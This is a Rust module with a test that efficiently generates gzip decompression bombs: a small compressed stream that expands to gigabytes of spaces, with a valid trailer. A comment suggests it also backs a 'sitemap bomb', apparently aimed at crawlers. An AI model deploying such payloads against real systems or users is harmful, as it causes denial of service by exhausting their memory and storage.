//! Gzip bombs built cheaply: one gzip member whose deflate stream is the same compressed
//! block (a chunk of spaces, ending in a full flush so every copy is identical and
//! self-contained) repeated many times. The trailer's CRC-32 and size are computed by CRC
//! combination, so a 10 GiB bomb costs compressing a few MiB once.

use std::io;

use bytes::Bytes;
use flate2::{Compress, Compression, Crc, FlushCompress, Status};

/// The pieces of the gzip stream: `head`, `block` × `repeats`, `tail`.
#[derive(Clone, Debug)]
pub(crate) struct GzipBomb {
    pub(crate) head: Bytes,
    pub(crate) block: Bytes,
    pub(crate) repeats: u64,
    pub(crate) tail: Bytes,
}

impl GzipBomb {
    /// A single gzip member decompressing to `chunk_len * copies` spaces (`copies >= 2`).
    pub(crate) fn build(chunk_len: usize, copies: u64) -> io::Result<GzipBomb> {
        let copies = copies.max(2);
        let input = vec![b' '; chunk_len];
        let mut deflate = Compress::new(Compression::best(), false);
        let first = compress(&mut deflate, &input, FlushCompress::Full)?;
        let steady = compress(&mut deflate, &input, FlushCompress::Full)?;
        let check = compress(&mut deflate, &input, FlushCompress::Full)?;
        if steady != check {
            return Err(io::Error::other(
                "deflate output after a full flush is not stable",
            ));
        }
        let end = compress(&mut deflate, &[], FlushCompress::Finish)?;

        let mut chunk_crc = Crc::new();
        chunk_crc.update(&input);
        let mut crc = Crc::new();
        for _ in 0..copies {
            crc.combine(&chunk_crc);
        }
        let total = chunk_len as u64 * copies;

        // Header: magic, deflate, no flags, mtime 0, no extra flags, OS unknown.
        let mut head = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
        head.extend_from_slice(&first);
        let mut tail = end;
        tail.extend_from_slice(&crc.sum().to_le_bytes());
        tail.extend_from_slice(&(total as u32).to_le_bytes());
        Ok(GzipBomb {
            head: head.into(),
            block: steady.into(),
            repeats: copies - 1,
            tail: tail.into(),
        })
    }

    /// Compressed size.
    pub(crate) fn len(&self) -> u64 {
        (self.head.len() + self.tail.len()) as u64 + self.block.len() as u64 * self.repeats
    }
}

/// Runs `input` through `deflate` with `flush`, returning all it wrote (also the sitemap
/// bomb's).
pub(crate) fn compress(
    deflate: &mut Compress,
    mut input: &[u8],
    flush: FlushCompress,
) -> io::Result<Vec<u8>> {
    let mut out = Vec::with_capacity(input.len() / 256 + 1024);
    loop {
        let before = deflate.total_in();
        let status = deflate
            .compress_vec(input, &mut out, flush)
            .map_err(io::Error::other)?;
        input = &input[(deflate.total_in() - before) as usize..];
        let done = match flush {
            FlushCompress::Finish => status == Status::StreamEnd,
            _ => input.is_empty() && out.len() < out.capacity(),
        };
        if done {
            return Ok(out);
        }
        out.reserve(out.capacity().max(1024));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read;

    #[test]
    fn bomb_is_one_valid_member() {
        let bomb = GzipBomb::build(64 * 1024, 5).unwrap();
        let mut gz = Vec::new();
        gz.extend_from_slice(&bomb.head);
        for _ in 0..bomb.repeats {
            gz.extend_from_slice(&bomb.block);
        }
        gz.extend_from_slice(&bomb.tail);
        assert_eq!(gz.len() as u64, bomb.len());
        // GzDecoder (single member) verifies the CRC and size in the trailer.
        let mut out = Vec::new();
        flate2::read::GzDecoder::new(&gz[..])
            .read_to_end(&mut out)
            .unwrap();
        assert_eq!(out.len(), 5 * 64 * 1024);
        assert!(out.iter().all(|&b| b == b' '));
        assert!(gz.len() < out.len() / 100);
    }
}
